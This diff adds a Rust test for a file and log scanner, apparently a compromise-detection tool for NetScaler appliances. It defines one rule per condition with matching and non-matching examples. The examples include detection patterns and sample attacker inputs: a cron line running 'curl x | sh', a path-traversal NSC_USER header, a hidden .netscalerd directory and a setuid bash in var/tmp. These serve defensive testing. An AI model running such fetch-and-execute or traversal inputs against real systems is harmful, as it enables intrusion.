@@ -1,0 +1,296 @@
+//! Each rule condition on its own: a tiny pack whose rules use one condition each, with a
+//! matching and a non-matching example, run through the real scanner.
+
+use sporen::rules::RuleSet;
+
+const PACK: &str = r#"
+[pack]
+id = "c"
+title = "conditions"
+description = "one rule per condition"
+
+[[rule]]
+id = "c.path-glob-alternatives"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["var/vpn/theme{,s}/**/*.php"]
+[[rule.example]]
+expect = "match"
+path = "var/vpn/themes/a/b/x.php"
+[[rule.example]]
+expect = "no-match"
+path = "var/vpn/themex/x.php"
+
+[[rule]]
+id = "c.name-regex"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+name = '%.*\.xml$'
+[[rule.example]]
+expect = "match"
+path = "var/vpn/bookmark/lol[%25x].xml"
+[[rule.example]]
+expect = "no-match"
+path = "var/vpn/bookmark/jdoe.xml"
+
+[[rule]]
+id = "c.type-dir"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["var/tmp/.netscalerd"]
+type = "dir"
+[[rule.example]]
+expect = "match"
+path = "var/tmp/.netscalerd"
+type = "dir"
+[[rule.example]]
+expect = "no-match"
+path = "var/tmp/.netscalerd"
+type = "file"
+
+[[rule]]
+id = "c.size"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["**/*.php"]
+size = { min = 5, max = 10 }
+[[rule.example]]
+expect = "match"
+path = "a.php"
+content = "123456"
+[[rule.example]]
+expect = "no-match"
+path = "a.php"
+content = "12345678901"
+[[rule.example]]
+expect = "no-match"
+path = "a.php"
+content = "1234"
+
+[[rule]]
+id = "c.mode-exact"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["x"]
+mode = { exact = "0644" }
+[[rule.example]]
+expect = "match"
+path = "x"
+mode = "0644"
+[[rule.example]]
+expect = "no-match"
+path = "x"
+mode = "0444"
+
+[[rule]]
+id = "c.mode-setgid"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+mode = { all = "2000", none = "4000" }
+[[rule.example]]
+expect = "match"
+path = "x"
+mode = "2755"
+[[rule.example]]
+expect = "no-match"
+path = "x"
+mode = "6755"
+
+[[rule]]
+id = "c.owner"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+uid = 65534
+gid = 0
+[[rule.example]]
+expect = "match"
+path = "x"
+uid = 65534
+gid = 0
+[[rule.example]]
+expect = "no-match"
+path = "x"
+uid = 65534
+gid = 65534
+
+[[rule]]
+id = "c.mtime"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["x"]
+mtime = { after = 2019-12-15, before = "2020-02-01T00:00:00Z" }
+[[rule.example]]
+expect = "match"
+path = "x"
+mtime = "2020-01-11T23:41:07Z"
+[[rule.example]]
+expect = "no-match"
+path = "x"
+mtime = "2019-12-14T23:59:59Z"
+[[rule.example]]
+expect = "no-match"
+path = "x"
+mtime = "2020-02-01T00:00:01Z"
+
+[[rule]]
+id = "c.content-all-none-case"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["x"]
+[rule.file.content]
+all = [{ literal = "nsc_user", ignore_case = true }, { regex = '^GET ' }]
+none = ["pluginlist"]
+[[rule.example]]
+expect = "match"
+path = "x"
+content = "header\nGET /vpns/ HTTP/1.1\nNSC_USER: ../../x\n"
+[[rule.example]]
+expect = "no-match"
+path = "x"
+content = "GET /vpn/pluginlist.xml\nNSC_USER: a\n"
+[[rule.example]]
+expect = "no-match"
+path = "x"
+content = "POST / HTTP/1.1\nNSC_USER: a\n"
+
+[[rule]]
+id = "c.content-max-bytes"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["x"]
+max_bytes = 8
+[rule.file.content]
+any = ["evil"]
+[[rule.example]]
+expect = "match"
+path = "x"
+content = "1234evil and more"
+[[rule.example]]
+expect = "no-match"
+path = "x"
+content = "123456789 evil"
+
+[[rule]]
+id = "c.exclude-paths"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+mode = { any = "4000" }
+exclude_paths = ["netscaler/ping"]
+[[rule.example]]
+expect = "match"
+path = "var/tmp/bash"
+mode = "4755"
+[[rule.example]]
+expect = "no-match"
+path = "netscaler/ping"
+mode = "4555"
+
+[[rule]]
+id = "c.sha256-bad"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["**"]
+[rule.file.sha256]
+bad = ["2CF24DBA5FB0A30E26E83B2AC5B9E29E1B161E5C1FA7425E73043362938B9824"]
+[[rule.example]]
+expect = "match"
+path = "var/tmp/a"
+content = "hello"
+[[rule.example]]
+expect = "no-match"
+path = "var/tmp/a"
+content = "hello!"
+
+[[rule]]
+id = "c.sha256-good"
+title = "modified stock file"
+description = "d"
+severity = "medium"
+[rule.file]
+paths = ["netscaler/portal/scripts/*.pl"]
+[rule.file.sha256]
+good = ["2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"]
+[[rule.example]]
+expect = "match"
+path = "netscaler/portal/scripts/newbm.pl"
+content = "hello, modified"
+[[rule.example]]
+expect = "no-match"
+path = "netscaler/portal/scripts/newbm.pl"
+content = "hello"
+
+[[rule]]
+id = "c.md5-good-suppresses-content"
+title = "t"
+description = "d"
+severity = "high"
+[rule.file]
+paths = ["netscaler/portal/scripts/*.pl"]
+[rule.file.content]
+any = ["eval("]
+[rule.file.md5]
+good = ["c0cca4be486e244430b4c422aab4dc74"]
+[[rule.example]]
+expect = "match"
+path = "netscaler/portal/scripts/x.pl"
+content = "eval($x)"
+[[rule.example]]
+expect = "no-match"
+path = "netscaler/portal/scripts/x.pl"
+content = "eval(handle_subscriptions());"
+
+[[rule]]
+id = "c.lines-rotations"
+title = "t"
+description = "d"
+severity = "high"
+[rule.lines]
+logs = ["var/log/cron"]
+any = ["(nobody) CMD"]
+none = ["nsfsyncd"]
+[[rule.example]]
+expect = "match"
+path = "var/log/cron.12.gz"
+line = "Jan 19 23:00:06 <cron.info> ns /usr/sbin/cron[1]: (nobody) CMD (curl x | sh)"
+[[rule.example]]
+expect = "no-match"
+path = "var/log/cron.0.gz"
+line = "Jan 19 23:00:06 <cron.info> ns /usr/sbin/cron[1]: (nobody) CMD (nsfsyncd -p)"
+[[rule.example]]
+expect = "no-match"
+path = "var/log/crontab"
+line = "(nobody) CMD"
+"#;
+
+#[test]
+fn every_condition_matches_and_rejects_as_documented() {
+    let rules = RuleSet::from_sources(vec![("conditions.toml".into(), PACK.into())], vec![])
+        .unwrap_or_else(|d| panic!("{}", d.iter().map(|x| x.to_string()).collect::<String>()));
+    let (count, failures) = sporen::scan::run_examples(&rules);
+    assert_eq!(count, 34);
+    assert!(failures.is_empty(), "{failures:#?}");
+}
